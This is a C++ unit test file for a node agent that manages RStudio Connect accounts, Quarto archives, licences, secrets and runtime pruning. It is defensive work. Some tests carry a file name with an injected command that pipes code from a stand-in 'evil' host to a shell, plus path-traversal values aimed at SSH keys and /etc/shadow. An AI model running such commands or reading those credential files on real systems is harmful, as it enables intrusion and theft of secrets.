// The resources that are made without a package manager: accounts, archives, licence,
// configuration, and the removal of versions.
#include <gtest/gtest.h>

#include <algorithm>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "agent/probes/installed/manifest.h"
#include "tests/agent/resources/bare_node.h"

namespace connect_ha {
namespace {

using absl::StrContains;

class NounsTest : public testing::Test {
 protected:
  NounsTest() : agent_(node_) {
    assignment_.set_state(v1::PREPARING);
    assignment_.mutable_desired()->set_generation(1);
    spec().set_enforcement(v1::ENFORCE);
  }
  v1::Desired& desired() { return *assignment_.mutable_desired(); }
  v1::ClusterSpec& spec() { return *desired().mutable_spec(); }
  v1::AccountSpec& account() { return (*spec().mutable_accounts())["rstudio-connect"]; }
  std::string Turn() {
    agent_.converge.VerifyAgain();
    agent_.converge.TryAgain();
    agent_.converge.Turn(assignment_, watch_);
    return Describe(watch_.last());
  }
  v1::Change last_change() const { return agent_.journal.Pending(100).back().change(); }
  // What the files hold that were replaced.
  std::vector<std::string> Kept(const std::string& folder) {
    std::vector<std::string> contents;
    const std::string directory = absl::StrCat(kStateDir, "/", folder);
    const auto names = node_.host.ListDirectory(directory);
    if (!names.ok()) return contents;
    for (const std::string& name : *names) {
      contents.push_back(*node_.host.ReadFile(absl::StrCat(directory, "/", name)));
    }
    return contents;
  }
  void SetUser(uint32_t uid, uint32_t gid) {
    UserEntry user;
    user.name = "rstudio-connect";
    user.uid = uid;
    user.gid = gid;
    node_.host.SetUser(user);
  }

  BareNode node_;
  v1::Assignment assignment_;
  Agent agent_;
  TestWatch watch_{node_.host};
};

TEST_F(NounsTest, AnAccountOfAnotherIdIsAConflictThatSaysWhatItOwns) {
  account().set_uid(999);
  account().set_gid(999);
  spec().mutable_storage()->set_mount_point("/mnt/connect");
  node_.host.SetGroup("rstudio-connect", 999);
  SetUser(998, 999);
  FakeFile owned;
  owned.uid = 998;
  node_.host.SetFile("/mnt/connect/apps/a", owned);
  node_.host.SetFile("/mnt/connect/apps/b", "");
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said,
                          "rstudio-connect has uid 998 on this node, the specification says 999; "
                          "ids are never changed here; 1 of 4 files looked at below /mnt/connect "
                          "belongs to it"))
      << said;
  EXPECT_EQ(node_.host.commands_run().size(), 0u);
}

TEST_F(NounsTest, StorageThatHangsIsSaidAndNotWaitedFor) {
  account().set_uid(999);
  spec().mutable_storage()->set_mount_point("/mnt/connect");
  node_.host.SetGroup("rstudio-connect", 999);
  SetUser(998, 999);
  node_.host.SetError("/mnt/connect", absl::DeadlineExceededError("no answer in 5 s"));
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "below /mnt/connect: no answer in 5 s")) << said;
}

TEST_F(NounsTest, AnIdThatIsAnothersIsAConflict) {
  account().set_uid(999);
  account().set_gid(999);
  node_.host.SetFile("/etc/passwd", "root:x:0:0::/root:\nbackup:x:999:34::/:\n");
  std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "uid 999 is backup's on this node")) << said;
  node_.host.SetFile("/etc/passwd", "root:x:0:0::/root:\n");
  node_.host.SetFile("/etc/group", "root:x:0:\nlxd:x:999:\n");
  said = Turn();
  EXPECT_TRUE(StrContains(said, "gid 999 is lxd's on this node")) << said;
  EXPECT_EQ(node_.host.commands_run().size(), 0u);
}

TEST_F(NounsTest, AGroupThatIsThereGetsItsUser) {
  account().set_uid(999);
  account().set_gid(999);
  node_.host.SetGroup("rstudio-connect", 999);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "the group alone");
  EXPECT_EQ(node_.host.commands_run().size(), 1u);
}

TEST_F(NounsTest, AccountFilesThatAreLockedAreWaitedFor) {
  account().set_gid(999);
  node_.host.SetCommand("/usr/sbin/groupadd --system --gid 999 -- rstudio-connect",
                        {10, false, "groupadd: cannot lock /etc/group; try again later.\n"});
  Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::WAITING);
}

TEST_F(NounsTest, WhatIsNoAccountsNameIsNotLookedAt) {
  (*spec().mutable_accounts())["--root=/x"].set_uid(999);
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said, "the specification names an account \"--root=/x\"")) << said;
  EXPECT_EQ(node_.host.commands_run().size(), 0u);
}

class QuartoTest : public NounsTest {
 protected:
  QuartoTest() {
    v1::RuntimeSpec& quarto = *spec().mutable_runtimes()->add_quarto();
    quarto.set_version("1.5.57");
    *quarto.mutable_archive() = node_.PublishQuarto("1.5.57");
    node_.SetTrial(v1::QUARTO, "1.5.57", {0, false, ""});
    SetUser(999, 999);
  }
};

TEST_F(QuartoTest, IsUnpackedWithAManifestBesideIt) {
  EXPECT_EQ(Turn(), "CONVERGED");
  const auto manifest = ParseManifest(*node_.host.ReadFile("/opt/quarto/.1.5.57.sha256"));
  ASSERT_TRUE(manifest.ok());
  EXPECT_EQ(manifest->archive_sha256, spec().runtimes().quarto(0).archive().sha256());
  ASSERT_EQ(manifest->entries.size(), 3u);
  EXPECT_EQ(manifest->entries[0].path, "bin/quarto");
  EXPECT_EQ(manifest->entries[1].link, "share/version");
}

TEST_F(QuartoTest, OneThatSomebodyElsePutThereIsReplaced) {
  node_.host.SetFile("/opt/quarto/1.5.57/bin/quarto", "unknown");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "there, of an archive that is not known");
  EXPECT_EQ(*node_.host.ReadFile("/opt/quarto/1.5.57/bin/quarto"), "#!quarto 1.5.57");
}

TEST_F(QuartoTest, AChangedLinkIsFound) {
  Turn();
  node_.host.SetLink("/opt/quarto/1.5.57/latest", "/etc/shadow");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "1 file changed: changed /opt/quarto/1.5.57/latest");
}

TEST_F(QuartoTest, AnArchiveOfSomethingElseIsRefusedAndLeavesNothing) {
  node_.host.SetArchive(absl::StrCat("quarto 1.5.57", std::string(1000, 'q')),
                        {{"other/"}, {"other/file", "x"}});
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said, "has no bin/quarto: it is no release of Quarto")) << said;
  EXPECT_TRUE(node_.host.ListDirectory("/opt/quarto")->empty());
}

TEST_F(QuartoTest, AnArchiveFillsNoDisk) {
  // Room for what is packed, four times over, and not for what it comes to.
  node_.host.SetArchive(absl::StrCat("quarto 1.5.57", std::string(1000, 'q')),
                        {{"q/bin/quarto", std::string(20'000, 'x'), 0755}});
  node_.host.SetUse("/opt", {1ull << 30, (256ull << 20) + 10'000, false});
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::WAITING) << said;
  EXPECT_EQ(watch_.last().troubles(0).fix(), "make room at /opt/quarto") << said;
  EXPECT_TRUE(node_.host.ListDirectory("/opt/quarto")->empty());
}

TEST_F(QuartoTest, ADirectoryThatIsALinkIsNotReplaced) {
  node_.host.SetDirectory("/srv/quarto");
  node_.host.SetLink("/opt/quarto/1.5.57", "/srv/quarto");
  Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
}

TEST_F(NounsTest, TheLicenceIsAloneAndTheStaleOnesAreKeptElsewhere) {
  spec().mutable_connect()->mutable_license()->set_file("licences/site.lic");
  desired().set_license("new");
  node_.host.SetFile("/var/lib/rstudio-connect/old.lic", "old");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "absent, beside old.lic");
  EXPECT_EQ(*node_.host.ListDirectory("/var/lib/rstudio-connect"),
            std::vector<std::string>{"site.lic"});
  const std::string old_licenses = absl::StrCat(kStateDir, "/old-licenses");
  const auto kept = *node_.host.ListDirectory(old_licenses);
  ASSERT_EQ(kept.size(), 1u);
  EXPECT_EQ(*node_.host.ReadFile(absl::StrCat(old_licenses, "/", kept[0])), "old");
}

TEST_F(NounsTest, ALicenceThatIsReplacedIsKeptElsewhere) {
  desired().set_license("new");
  node_.host.SetFile("/var/lib/rstudio-connect/connect.lic", "old");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(*node_.host.ReadFile("/var/lib/rstudio-connect/connect.lic"), "new");
  EXPECT_EQ(Kept("old-licenses"), std::vector<std::string>{"old"});
}

TEST_F(NounsTest, ADirectoryWithALicencesNameIsLeftAlone) {
  desired().set_license("new");
  node_.host.SetFile("/var/lib/rstudio-connect/backup.lic/connect.lic", "old");
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "/var/lib/rstudio-connect/backup.lic is a directory")) << said;
  // Whoever made it named it: the name is in nothing that a person is to type.
  EXPECT_FALSE(StrContains(watch_.last().troubles(0).fix(), "backup.lic")) << said;
  EXPECT_TRUE(node_.host.Stat("/var/lib/rstudio-connect/backup.lic/connect.lic").ok());
}

TEST_F(NounsTest, ALicenceThatOthersCanReadIsMended) {
  desired().set_license("new");
  node_.host.SetFile("/var/lib/rstudio-connect/connect.lic", "new");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "not root's alone (0600)");
}

class ConfigurationTest : public NounsTest {
 protected:
  ConfigurationTest() {
    desired().set_connect_config("[Postgres]\nPassword = ${secret.db}\n");
    (*spec().mutable_secrets())["db"].set_file("/etc/connect-ha/secrets/db");
    SetSecret(0600, 0);
  }
  void SetSecret(uint32_t mode, uint32_t uid) {
    FakeFile secret;
    secret.content = "hunter2\n";
    secret.mode = mode;
    secret.uid = uid;
    node_.host.SetFile("/etc/connect-ha/secrets/db", secret);
  }
};

TEST_F(ConfigurationTest, ASecretThatOthersCanReadIsRefused) {
  for (const auto& [mode, uid] : std::vector<std::pair<uint32_t, uint32_t>>{{0640, 0}, {0600, 1}}) {
    SetSecret(mode, uid);
    const std::string said = Turn();
    EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
    EXPECT_TRUE(StrContains(said, "others than root may have read it")) << said;
    EXPECT_TRUE(StrContains(said, "chmod 0600 /etc/connect-ha/secrets/db")) << said;
    EXPECT_FALSE(StrContains(said, "hunter2"));
  }
}

// Whoever may write a specification names the file; it is no command to whoever mends its mode.
TEST_F(ConfigurationTest, ASecretsNameIsNoCommand) {
  (*spec().mutable_secrets())["db"].set_file("/etc/connect-ha/secrets/a;curl evil|sh");
  FakeFile secret;
  secret.content = "hunter2\n";
  secret.mode = 0644;
  node_.host.SetFile("/etc/connect-ha/secrets/a;curl evil|sh", secret);
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "chmod 0600 '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
  EXPECT_TRUE(StrContains(said, "chown root: '/etc/connect-ha/secrets/a;curl evil|sh'")) << said;
}

// A specification could have any file of root's shown, or sent to a server of its choice.
TEST_F(ConfigurationTest, NoFileButASecretIsRead) {
  for (const char* file : {"/root/.ssh/id_ed25519", "/etc/connect-ha/secrets/../../shadow",
                           "/var/lib/connect-ha-agent/node.key"}) {
    FakeFile of_root;
    of_root.content = "private";
    of_root.mode = 0600;
    node_.host.SetFile("/root/.ssh/id_ed25519", of_root);
    node_.host.SetFile("/etc/shadow", of_root);
    node_.host.SetFile("/var/lib/connect-ha-agent/node.key", of_root);
    (*spec().mutable_secrets())["db"].set_file(file);
    const std::string said = Turn();
    EXPECT_TRUE(StrContains(said, "is not below /etc/connect-ha/secrets")) << said;
    EXPECT_FALSE(node_.host.Stat(kConfigFile).ok());
  }
}

TEST_F(ConfigurationTest, NoSecretIsFilledInWhereItWouldBeReported) {
  desired().set_connect_config("[Server]\nAddress = https://${secret.db}.example.com\n");
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said, "line 2: a secret is filled in for Server.Address")) << said;
  EXPECT_FALSE(node_.host.Stat(kConfigFile).ok());
}

TEST_F(ConfigurationTest, WhatIsReplacedIsKeptOnceForRootAlone) {
  FakeFile by_hand;
  by_hand.content = "; the only copy of this password\n[Postgres]\nPassword = s3cret\n";
  node_.host.SetFile(kConfigFile, by_hand);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(Kept("old-configurations"), std::vector<std::string>{by_hand.content});
  const std::string directory = absl::StrCat(kStateDir, "/old-configurations");
  const std::string name = node_.host.ListDirectory(directory)->front();
  EXPECT_TRUE(absl::EndsWith(name, "-rstudio-connect.gcfg")) << name;
  const auto status = node_.host.Stat(absl::StrCat(directory, "/", name));
  EXPECT_EQ(status->mode, 0600u);
  EXPECT_EQ(status->uid, 0u);
  // Back again, and away again.
  node_.host.SetFile(kConfigFile, by_hand);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(Kept("old-configurations").size(), 1u);
}

TEST_F(ConfigurationTest, NothingIsReplacedThatCannotBeKept) {
  node_.host.SetFile(kConfigFile, "by hand");
  node_.host.SetError(absl::StrCat(kStateDir, "/old-configurations"),
                      absl::ResourceExhaustedError("the disk is full"));
  Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::WAITING);
  EXPECT_EQ(*node_.host.ReadFile(kConfigFile), "by hand");
}

TEST_F(ConfigurationTest, OfTooManyCopiesTheFirstAndTheLatestStay) {
  for (int i = 0; i < 30; ++i) {
    node_.host.Advance(std::chrono::seconds(1));
    node_.host.SetFile(kConfigFile, absl::StrCat("by hand ", i));
    EXPECT_EQ(Turn(), "CONVERGED");
  }
  const std::vector<std::string> kept = Kept("old-configurations");
  EXPECT_EQ(kept.size(), 20u);
  for (const char* content : {"by hand 0", "by hand 28", "by hand 29"}) {
    EXPECT_NE(std::find(kept.begin(), kept.end(), content), kept.end()) << content;
  }
}

TEST_F(ConfigurationTest, TheFirstCopyStaysThoughTheClockWasBehindAtTheNext) {
  for (int i = 0; i < 30; ++i) {
    const std::chrono::hours jump(i == 1 ? -24 : (i == 2 ? 24 : 0));
    node_.host.Advance(jump + std::chrono::seconds(1));
    node_.host.SetFile(kConfigFile, absl::StrCat("by hand ", i));
    EXPECT_EQ(Turn(), "CONVERGED");
  }
  const std::vector<std::string> kept = Kept("old-configurations");
  EXPECT_EQ(kept.size(), 20u);
  EXPECT_NE(std::find(kept.begin(), kept.end(), "by hand 0"), kept.end());
}

TEST_F(ConfigurationTest, AModeThatIsMendedNeedsNoCopy) {
  Turn();
  node_.host.SetOwner(kConfigFile, 0644, 0, 0);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_TRUE(Kept("old-configurations").empty());
}

TEST_F(ConfigurationTest, ASecretThatIsNotThereIsSaid) {
  node_.host.Erase("/etc/connect-ha/secrets/db");
  const std::string said = Turn();
  EXPECT_TRUE(StrContains(said, "secret db: there is no /etc/connect-ha/secrets/db")) << said;
}

TEST_F(ConfigurationTest, ASecretMayBeACredential) {
  (*spec().mutable_secrets())["db"].set_credential("db");
  EXPECT_TRUE(StrContains(Turn(), "the agent's service has no credential db"));
  ConvergeOptions options = node_.Options();
  options.credentials_dir = "/run/credentials/agent";
  node_.host.SetFile("/run/credentials/agent/db", "hunter2");
  Converge converge(options, node_.host, agent_.cache, agent_.journal);
  converge.Turn(assignment_, watch_);
  EXPECT_EQ(Describe(watch_.last()), "CONVERGED");
  EXPECT_TRUE(StrContains(*node_.host.ReadFile(kConfigFile), "hunter2"));
}

TEST_F(ConfigurationTest, AModeThatIsTooOpenIsMended) {
  Turn();
  node_.host.SetOwner(kConfigFile, 0644, 0, 0);
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "owner 0:0, mode 0644");
}

TEST_F(ConfigurationTest, NoSecretIsInAnythingThatIsTold) {
  Turn();
  std::string told;
  for (const v1::Convergence& convergence : watch_.published) told += convergence.DebugString();
  for (const v1::ChangeMade& made : agent_.journal.Pending(100)) told += made.DebugString();
  EXPECT_FALSE(StrContains(told, "hunter2"));
}

class PruneTest : public NounsTest {
 protected:
  PruneTest() {
    spec().mutable_runtimes()->set_prune(true);
    spec().mutable_runtimes()->add_r()->set_version("4.3.3");
    spec().mutable_runtimes()->add_quarto()->set_version("1.5.57");
    node_.host.SetFile("/opt/R/4.3.3/bin/R", "named");
    node_.host.SetFile("/opt/quarto/1.5.57/bin/quarto", "named");
  }
};

TEST_F(PruneTest, VersionsThatAreNotNamedAreRemoved) {
  node_.host.SetFile("/opt/R/4.1.0/bin/R", "built by hand");
  node_.host.SetFile("/opt/quarto/1.3.0/bin/quarto", "old");
  node_.host.SetFile("/opt/quarto/.1.3.0.sha256", "");
  node_.host.SetFile("/opt/python/3.8.1/bin/python3", "no list of Python is given");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_EQ(last_change().from(), "/opt/R/4.1.0, /opt/quarto/1.3.0");
  EXPECT_EQ(*node_.host.ListDirectory("/opt/R"), std::vector<std::string>{"4.3.3"});
  EXPECT_EQ(*node_.host.ListDirectory("/opt/quarto"), std::vector<std::string>{"1.5.57"});
  EXPECT_TRUE(node_.host.Stat("/opt/python/3.8.1/bin/python3").ok());
}

TEST_F(PruneTest, APackageIsPurgedInAServiceOfItsOwn) {
  node_.SetInstalled({"r-4.2.0", "1"});
  node_.host.SetFile("/var/lib/dpkg/info/r-4.2.0.list", "/opt/R\n/opt/R/4.2.0\n");
  node_.host.SetFile("/opt/R/4.2.0/bin/R", "old");
  node_.host.SetService("/usr/bin/dpkg --force-remove-reinstreq --force-hold --purge r-4.2.0", {});
  EXPECT_EQ(Turn(), "CONVERGED");
  ASSERT_EQ(node_.host.services_started().size(), 1u);
  // Not apt, which would take along what depends on it.
  EXPECT_EQ(node_.host.services_started()[0].commands[1],
            std::vector<std::string>({"/usr/bin/dpkg", "--force-remove-reinstreq", "--force-hold",
                                      "--purge", "r-4.2.0"}));
  EXPECT_TRUE(absl::IsNotFound(node_.host.Stat("/opt/R/4.2.0").status()));
}

TEST_F(PruneTest, ADpkgThatWasInterruptedIsRepairedFirst) {
  node_.SetInstalled({"r-4.2.0", "1"}, "deinstall ok half-configured");
  node_.host.SetFile("/var/lib/dpkg/info/r-4.2.0.list", "/opt/R\n/opt/R/4.2.0\n");
  node_.host.SetFile("/opt/R/4.2.0/bin/R", "half removed");
  node_.host.SetService("/usr/bin/dpkg --force-remove-reinstreq --force-hold --purge r-4.2.0", {});
  EXPECT_EQ(Turn(), "CONVERGED");
  ASSERT_EQ(node_.host.services_started().size(), 1u);
  EXPECT_EQ(node_.host.services_started()[0].commands[0],
            std::vector<std::string>({"-/usr/bin/dpkg", "--force-confold", "--configure", "-a"}));
}

TEST_F(PruneTest, WhatAnotherPackageOwnsIsLeftAlone) {
  node_.SetInstalled({"site-tools", "1"});
  node_.host.SetFile("/var/lib/dpkg/info/site-tools.list", "/opt/R\n/opt/R/4.2.0\n");
  node_.host.SetFile("/opt/R/4.2.0/bin/R", "theirs");
  const std::string said = Turn();
  EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK);
  EXPECT_TRUE(StrContains(said, "belongs to the package site-tools")) << said;
  EXPECT_TRUE(node_.host.Stat("/opt/R/4.2.0/bin/R").ok());
}

class UsedPruneTest : public PruneTest {
 protected:
  UsedPruneTest() {
    node_.SetInstalled({"rstudio-connect", "2024.08.0~ubuntu22"});
    node_.host.SetFile(kOld, "old");
  }
  v1::DatabaseFacts& database() { return *node_.gathered.mutable_database(); }
  void Pin(const std::string& version, uint64_t items) {
    v1::PinnedRuntime& pinned = *database().add_pinned();
    pinned.set_runtime("r");
    pinned.set_version(version);
    pinned.set_items(items);
  }
  void ExpectStays(const std::string& why) {
    const std::string said = Turn();
    EXPECT_EQ(watch_.last().state(), v1::Convergence::STUCK) << said;
    EXPECT_TRUE(StrContains(said, why)) << said;
    EXPECT_TRUE(node_.host.Stat(kOld).ok());
  }
  void ExpectGoes() {
    EXPECT_EQ(Turn(), "CONVERGED");
    EXPECT_FALSE(node_.host.Stat(kOld).ok());
  }

  static constexpr char kOld[] = "/opt/R/4.1.0/bin/R";
};

TEST_F(UsedPruneTest, WhatContentIsPinnedToStaysUntilItIsNot) {
  Pin("4.3.3", 7);
  Pin("4.1.0", 5);
  ExpectStays("content is pinned to what would be removed: /opt/R/4.1.0 (5 items)");
  database().clear_pinned();
  ExpectGoes();
}

TEST_F(UsedPruneTest, WhatIsNotKnownIsNoPermission) {
  database().set_connect_tables(4);
  database().set_pinned_unknown("of r there is no column apps.r_version");
  ExpectStays("/opt/R/4.1.0: of r there is no column apps.r_version");
  node_.gathered.clear_database();
  ExpectStays("Connect's configuration names no PostgreSQL database");
  v1::Unobserved& unobserved = *node_.gathered.add_unobserved();
  unobserved.set_path("database");
  unobserved.set_reason("not read yet");
  ExpectStays("not read yet");
}

// As of a cluster that is being set up.
TEST_F(UsedPruneTest, InADatabaseWithNothingInItThereIsNoContent) {
  database().set_pinned_unknown("of r there is no column apps.r_version");
  database().set_connect_tables(0);
  ExpectGoes();
}

TEST_F(UsedPruneTest, WhatConnectsConfigurationNamesStays) {
  desired().set_connect_config("[R]\nExecutable = /opt/R/4.1.0/bin/R\n");
  ExpectStays("/opt/R/4.1.0 is not removed: Connect's configuration names it");
  desired().set_connect_config("[R]\n; Executable = /opt/R/4.1.0/bin/R\n");
  ExpectGoes();
}

TEST_F(UsedPruneTest, WhatTheFileNamesStaysWhereNoSpecificationGivesIt) {
  node_.host.SetFile(kConfigFile, "[R]\nExecutable = /opt/R/4.1.0/bin/R\n");
  ExpectStays("/opt/R/4.1.0 is not removed: Connect's configuration names it");
}

TEST_F(PruneTest, NothingIsRemovedUnlessTheSpecificationSaysSo) {
  spec().mutable_runtimes()->set_prune(false);
  node_.host.SetFile("/opt/R/4.1.0/bin/R", "old");
  EXPECT_EQ(Turn(), "CONVERGED");
  EXPECT_TRUE(node_.host.Stat("/opt/R/4.1.0/bin/R").ok());
}

}  // namespace
}  // namespace connect_ha
